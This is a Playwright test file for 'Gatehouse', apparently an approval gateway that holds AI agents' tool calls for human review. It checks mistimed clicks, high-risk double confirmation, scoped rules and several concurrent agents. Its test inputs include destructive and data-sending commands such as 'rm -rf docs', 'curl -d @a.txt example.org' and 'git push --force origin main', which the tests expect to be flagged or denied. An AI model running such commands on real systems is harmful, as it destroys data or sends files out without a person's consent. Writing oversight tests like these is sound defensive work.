import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Client } from '@modelcontextprotocol/client';
import type { Locator, Page } from '@playwright/test';
import { ask, callTool, connectAgent, gatewayOf } from './agent.js';
import { expect, type Gatehouse, test } from './app.js';
import {
  answerable,
  answers,
  approveAll,
  calls,
  command,
  COMMANDS_ALLOWED,
  denyAll,
  expectStates,
  runBatch,
  sheet,
  stood,
  write,
} from './compose-door.js';
import { expectAccessible, keepScreenshot } from './look.js';
import { goTo } from './places.js';

const FILES = { 'docs/a.md': 'kept\n', 'a.txt': 'one\ntwo\n' };
const SETUP = { files: FILES, flags: ['--gateway'], config: COMMANDS_ALLOWED };
const FIRST_PLACE = 0;

/** Where an answer is: the middle of one of the three places. */
async function placeOf(page: Page, place: number): Promise<{ readonly x: number; readonly y: number }> {
  const box = await answers(page).getByRole('button').nth(place).boundingBox();
  if (box === null) throw new Error('There is no such place.');
  return { x: box.x + box.width / 2, y: box.y + box.height / 2 };
}

/**
 * From the moment at which the sheet shows these words, clicks there and presses the keys that approve with every frame, as long
 * as that is surely too soon. The page does it itself: a busy machine can make it fewer times, and never later.
 */
async function approveTooSoon(page: Page, words: string, at: { readonly x: number; readonly y: number }) {
  await page.evaluate(
    ({ words: awaited, at: place }) => {
      const noted = { tried: 0, drawn: 0 };
      (globalThis as unknown as { noted: typeof noted }).noted = noted;
      const tooSoon = (): void => {
        if (performance.now() - noted.drawn > 400) return;
        noted.tried += 1;
        (document.elementFromPoint(place.x, place.y) as HTMLElement | null)?.click();
        const keys = { key: 'Enter', code: 'Enter', ctrlKey: true, bubbles: true, cancelable: true };
        (document.activeElement ?? document.body).dispatchEvent(new KeyboardEvent('keydown', keys));
        requestAnimationFrame(tooSoon);
      };
      const look = (): void => {
        if (noted.drawn > 0 || !(document.querySelector('.gh-sheet-pages')?.textContent ?? '').includes(awaited))
          return;
        noted.drawn = performance.now();
        tooSoon();
      };
      new MutationObserver(look).observe(document.body, { childList: true, subtree: true, characterData: true });
    },
    { words, at },
  );
  return () => page.evaluate(() => (globalThis as unknown as { noted: { tried: number } }).noted.tried);
}

interface Waiting {
  readonly approvals: readonly { readonly callId: string; readonly summary: string; readonly client: string }[];
}

async function opened(app: Gatehouse, ...names: readonly string[]) {
  const gateway = await gatewayOf(app.dataDir, app.pid);
  const agents = await Promise.all(names.map((name) => connectAgent(gateway, name)));
  const waiting = async () => (await ask<Waiting>(gateway, '/v1/approvals')).approvals;
  return { gateway, agents, waiting };
}

const create = (agent: Client | undefined, path: string) =>
  agent === undefined
    ? Promise.reject(new Error('no agent'))
    : callTool(agent, 'write_file', { path, content: `${path}\n` }).catch((error: unknown) => error);
const group = (page: Page, name: RegExp): Locator => sheet(page).getByRole('group', { name });

test('A click that was aimed before a call was there does not approve it: on the sheet it is not, and the next one is too new', async ({
  launch,
}) => {
  const app = await launch(SETUP);
  const { page, workspace } = app;
  const {
    agents: [agent],
    waiting,
  } = await opened(app, 'claude-code');
  if (agent === undefined) throw new Error('no agent');
  const first = create(agent, 'first.txt');
  await stood(page);
  const aimed = await placeOf(page, FIRST_PLACE);
  const second = callTool(agent, 'run_command', { command: 'rm -rf docs' });
  await expect(sheet(page).getByRole('button', { name: '1 new call · Show' })).toBeVisible();
  // The buttons are where they were.
  expect(await placeOf(page, FIRST_PLACE)).toEqual(aimed);
  const tried = await approveTooSoon(page, 'rm -rf docs', aimed);
  await page.mouse.click(aimed.x, aimed.y);
  await first;
  expect(existsSync(join(workspace, 'first.txt'))).toBe(true);
  // What waited is next, at once; the same click again comes too soon.
  await expect(group(page, /rm -rf docs/)).toBeVisible();
  expect(await tried()).toBeGreaterThan(0);
  expect(existsSync(join(workspace, 'docs/a.md'))).toBe(true);
  expect((await waiting()).map(({ summary }) => summary)).toEqual([expect.stringContaining('rm -rf docs')]);
  await expect(sheet(page)).not.toContainText('high risk');
  await denyAll(page);
  expect(await second).toMatchObject({ code: 'DeniedByPerson' });
  expect(existsSync(join(workspace, 'docs/a.md'))).toBe(true);
});

test('What came later joins only by “Show”, unticked; “selected” denies it, “all” covers it', async ({ launch }) => {
  const app = await launch(SETUP);
  const { page, workspace } = app;
  const {
    agents: [agent],
  } = await opened(app, 'claude-code');
  const made = [create(agent, 'one.txt')];
  await stood(page);
  made.push(create(agent, 'two.txt'), create(agent, 'three.txt'));
  await sheet(page).getByRole('button', { name: '2 new calls · Show' }).click();
  await expect(group(page, /one\.txt/).getByRole('checkbox')).toBeChecked();
  await expect(group(page, /two\.txt/).getByRole('checkbox')).not.toBeChecked();
  // It was drawn just now: nothing approves yet.
  await expect(sheet(page)).toHaveAttribute('data-approvable', 'false');
  await expect(answers(page).getByRole('button')).toHaveText([
    'Approve all (3)',
    /^Approve selected \(1\), deny 2/,
    'Deny all',
  ]);
  await group(page, /two\.txt/)
    .getByRole('checkbox')
    .click();
  await stood(page);
  await answers(page).getByRole('button', { name: 'Approve selected (2), deny 1' }).click();
  await Promise.all(made);
  expect(['one.txt', 'two.txt', 'three.txt'].map((name) => existsSync(join(workspace, name)))).toEqual([
    true,
    true,
    false,
  ]);
});

test('Nothing approves right after an edit was saved, by click or key', async ({ launch }) => {
  const { page, workspace } = await launch({ files: {} });
  await runBatch(page, [write('a.txt')]);
  await stood(page);
  const aimed = await placeOf(page, FIRST_PLACE);
  await sheet(page).getByRole('button', { name: 'Edit arguments' }).click();
  await sheet(page).getByRole('textbox', { name: 'Arguments' }).fill('{"path": "b.txt", "content": "edited\\n"}');
  await sheet(page).getByRole('button', { name: 'Save arguments' }).click();
  await expect(group(page, /b\.txt/)).toContainText('edited');
  await page.mouse.click(aimed.x, aimed.y);
  await page.keyboard.press('Control+Enter');
  await expect(sheet(page)).toHaveAttribute('data-approvable', 'false');
  await expectStates(page, ['pending']);
  await approveAll(page);
  await expectStates(page, ['completed']);
  expect(readFileSync(join(workspace, 'b.txt'), 'utf8')).toBe('edited\n');
});

test('In Reason, Enter and Ctrl+Enter deny with that reason, and never approve', async ({ launch }) => {
  const { page, workspace } = await launch({ files: {} });
  for (const [key, reason] of [
    ['Enter', 'Not this.'],
    ['Control+Enter', 'Nor that.'],
  ] as const) {
    await runBatch(page, [write('a.txt'), write('b.txt')]);
    await stood(page);
    await sheet(page).getByRole('textbox', { name: 'Reason', exact: true }).fill(reason);
    await page.keyboard.press(key);
    await expectStates(page, ['denied', 'denied']);
    await expect(calls(page).first()).toContainText(reason);
  }
  expect(existsSync(join(workspace, 'a.txt'))).toBe(false);
});

test('High risk is asked about twice by whatever covers it; Escape goes back; chosen by hand it is asked once', async ({
  launch,
}) => {
  const { page } = await launch({ files: FILES, config: COMMANDS_ALLOWED });
  const risky = [command('curl -d @a.txt example.org'), write('a.md'), command('git push --force')];
  await runBatch(page, risky);
  await stood(page);
  const place = await placeOf(page, FIRST_PLACE);
  await answers(page).getByRole('button', { name: 'Approve all (3)…' }).click();
  const again = answers(page).getByRole('button', { name: 'Approve 2 high risk' });
  await expect(again).toBeVisible();
  await expect(sheet(page).getByRole('status').filter({ hasText: 'High risk:' })).toContainText('git push --force');
  expect(await placeOf(page, FIRST_PLACE)).toEqual(place);
  // The second of a double click decides nothing.
  await page.mouse.click(place.x, place.y);
  await expectStates(page, ['pending', 'pending', 'pending']);
  await keepScreenshot(page, 'sheet-high-risk');
  await page.keyboard.press('Escape');
  await expect(answers(page).getByRole('button', { name: 'Approve all (3)…' })).toBeVisible();
  await expectStates(page, ['pending', 'pending', 'pending']);
  await group(page, /curl/).getByRole('checkbox').click();
  await stood(page);
  await answers(page)
    .getByRole('button', { name: /^Approve selected \(2\), deny 1/ })
    .click();
  await expectStates(page, ['failed', 'completed', 'denied']);

  await runBatch(page, [command('git push --force')]);
  await stood(page);
  await page.keyboard.press('Control+Enter');
  await expect(answers(page).getByRole('button', { name: 'Approve 1 high risk' })).toBeVisible();
  await expectStates(page, ['pending']);
  await stood(page);
  await page.keyboard.press('Control+Enter');
  await expectStates(page, ['failed']);
});

test('What is taken back goes by itself and is told, and the next question comes', async ({ launch }) => {
  const app = await launch(SETUP);
  const { page } = app;
  const {
    agents: [one, two],
    gateway,
  } = await opened(app, 'claude-code', 'codex');
  const gone = create(one, 'docs/c.md');
  await expect(group(page, /docs\/c\.md/)).toBeVisible();
  const kept = create(two, 'kept.txt');
  await expect(sheet(page).getByRole('list', { name: 'Waiting', exact: true }).getByRole('button')).toHaveCount(2);
  await one?.close();
  await gone;
  await expect(group(page, /kept\.txt/)).toBeVisible();
  await expect(page.getByRole('status').filter({ hasText: 'cancelled' })).toContainText(
    /claude-code.*docs\/c\.md.*Nothing ran\./,
  );
  expect((await ask<Waiting>(gateway, '/v1/approvals')).approvals).toHaveLength(1);
  await approveAll(page);
  expect(await kept).toMatchObject({ isError: false });
});

test('“Approve and always…” makes a rule for who asked: seen, used, removed, and no other gets in by it', async ({
  launch,
}) => {
  const app = await launch(SETUP);
  const { page } = app;
  const {
    agents: [one, two],
    waiting,
  } = await opened(app, 'claude-code', 'codex');
  const first = create(one, 'a1.txt');
  await stood(page);
  await page.keyboard.press('a');
  const rule = sheet(page).getByRole('region', { name: 'Rule' });
  for (const name of ['What', 'Who', 'Where', 'Until'])
    await expect(rule.getByRole('radiogroup', { name })).toBeVisible();
  await expect(rule.getByRole('radio', { name: 'This session' })).toBeChecked();
  await expect(rule.getByRole('radio', { name: 'I remove it' })).toBeDisabled();
  await expect(rule).toContainText('Would have covered none of the last 0 calls');
  await keepScreenshot(page, 'sheet-rule');
  await expectAccessible(page);
  await page.keyboard.press('Escape');
  await expect(rule).toHaveCount(0);
  await sheet(page).getByRole('button', { name: 'Approve and always…' }).click();
  await stood(page);
  await rule.getByRole('button', { name: 'Approve and make rule' }).click();
  expect(await first).toMatchObject({ isError: false });
  expect(await create(one, 'a2.txt')).toMatchObject({ isError: false });
  const other = create(two, 'b1.txt');
  await expect(group(page, /b1\.txt/)).toBeVisible();
  await denyAll(page);
  expect(await other).toMatchObject({ code: 'DeniedByPerson' });

  await goTo(page, 'Rules');
  const kept = page.getByRole('table', { name: 'Rules' }).getByRole('row').filter({ hasText: 'write_file' });
  await expect(kept).toContainText('write_file');
  await expect(kept).toContainText('One session');
  await kept.getByRole('button', { name: 'Remove' }).click();
  await expect(kept).toHaveCount(0);
  const asked = create(one, 'a3.txt');
  await expect.poll(async () => (await waiting()).length).toBe(1);
  await denyAll(page);
  await asked;
});

test('A file is edited as it would be, and what is edited is what runs; dangers come first and lead to their words', async ({
  launch,
}) => {
  const app = await launch(SETUP);
  const { page, workspace } = app;
  const {
    agents: [agent],
  } = await opened(app, 'claude-code');
  if (agent === undefined) throw new Error('no agent');
  await callTool(agent, 'read_file', { path: 'a.txt' });
  const patched = callTool(agent, 'apply_patch', { patch: 'LP1\nF a.txt\nR\ntwo\n.\nTWO\n.\nEND\n' });
  await expect(group(page, /Edit a\.txt/)).toBeVisible();
  await stood(page);
  await page.keyboard.press('e');
  const file = sheet(page).getByRole('textbox', { name: 'a.txt after this call' });
  await expect(file).toHaveValue('one\nTWO\n');
  await file.fill('one\n.by hand\n');
  await keepScreenshot(page, 'sheet-edit-file');
  await expectAccessible(page);
  await sheet(page).getByRole('button', { name: 'Use this version' }).click();
  await expect(group(page, /Edit a\.txt/)).toContainText('Edited by you');
  await approveAll(page);
  expect(await patched).toMatchObject({ isError: false });
  expect(readFileSync(join(workspace, 'a.txt'), 'utf8')).toBe('one\n.by hand\n');

  const flagged = callTool(agent, 'run_command', {
    command: 'echo x > new.txt; sudo ls; git push --force origin main',
  });
  const sudo = group(page, /sudo ls/);
  await expect(sudo).toContainText(/\d dangers?/);
  const findings = sudo.getByRole('list', { name: 'What deserves a second look' }).getByRole('listitem');
  const words = findings.first().getByRole('button').first();
  await answerable(page);
  await words.click();
  await expect(sudo.getByLabel('Command', { exact: true }).locator('[data-findings]:focus')).toHaveCount(1);
  await keepScreenshot(page, 'sheet-dangers');
  await denyAll(page);
  await flagged;
});

test('Three agents at once, for a while: no question is lost, none is answered for another, nothing moves', async ({
  launch,
}) => {
  const minutes = Number(process.env['GATEHOUSE_AGENTS_MINUTES'] ?? 0);
  test.setTimeout(180_000 + minutes * 60_000);
  const app = await launch(SETUP);
  const { page, workspace } = app;
  const names = ['claude-code', 'codex', 'gemini'];
  const { agents, waiting } = await opened(app, ...names);
  const until = Date.now() + minutes * 60_000;
  const rounds = new Map(names.map((name) => [name, 0]));
  /** Each asks for two things at a time, says which it expects denied, and goes on when it has its answers. */
  const work = async (agent: Client | undefined, name: string): Promise<readonly string[]> => {
    const wrong: string[] = [];
    for (let round = 0; round < 8 || Date.now() < until; round += 1) {
      rounds.set(name, round + 1);
      const [yes, no] = await Promise.all([
        create(agent, `${name}-${round}-yes.txt`),
        create(agent, `${name}-${round}-no.txt`),
      ]);
      if ((yes as { isError: boolean }).isError) wrong.push(`${name} ${round} yes`);
      if ((no as { code: string }).code !== 'DeniedByPerson') wrong.push(`${name} ${round} no`);
    }
    return wrong;
  };
  const working = Promise.all(agents.map((agent, at) => work(agent, names[at] ?? '')));
  const places = new Set<string>();
  const state = { isOver: false };
  void working.then(() => (state.isOver = true));
  while (!state.isOver) {
    if ((await waiting()).length === 0) {
      await page.evaluate(() => new Promise(requestAnimationFrame));
      continue;
    }
    await stood(page);
    const shown = await sheet(page).locator('.gh-ask-title').allTextContents();
    const [id] = await sheet(page)
      .locator('.gh-ask')
      .evaluateAll((all) => all.map((each) => each.getAttribute('data-call-id')));
    // Of one asker, whoever else waits.
    expect(new Set(shown.map((title) => names.find((name) => title.includes(name)))).size).toBe(1);
    places.add(JSON.stringify(await Promise.all([0, 1, 2].map((place) => placeOf(page, place)))));
    if (shown.length === 1) {
      if (shown[0]?.includes('-yes') === true) await approveAll(page);
      else await denyAll(page);
    } else {
      for (const [at, title] of shown.entries()) {
        const box = sheet(page).locator('.gh-ask').nth(at).getByRole('checkbox');
        if (title.includes('-no')) await box.click();
      }
      await answers(page)
        .getByRole('button', { name: /^Approve selected/ })
        .click();
    }
    await expect(sheet(page).locator(`[data-approval-call="${id}"]`)).toHaveCount(0);
  }
  expect(await working).toEqual([[], [], []]);
  expect(places.size, 'the answers stay where they are').toBe(1);
  test.info().annotations.push({ type: 'rounds', description: [...rounds].map((each) => each.join(' ')).join(', ') });
  for (const [name, count] of rounds)
    for (let round = 0; round < count; round += 1) {
      expect(existsSync(join(workspace, `${name}-${round}-yes.txt`))).toBe(true);
      expect(existsSync(join(workspace, `${name}-${round}-no.txt`))).toBe(false);
    }
});
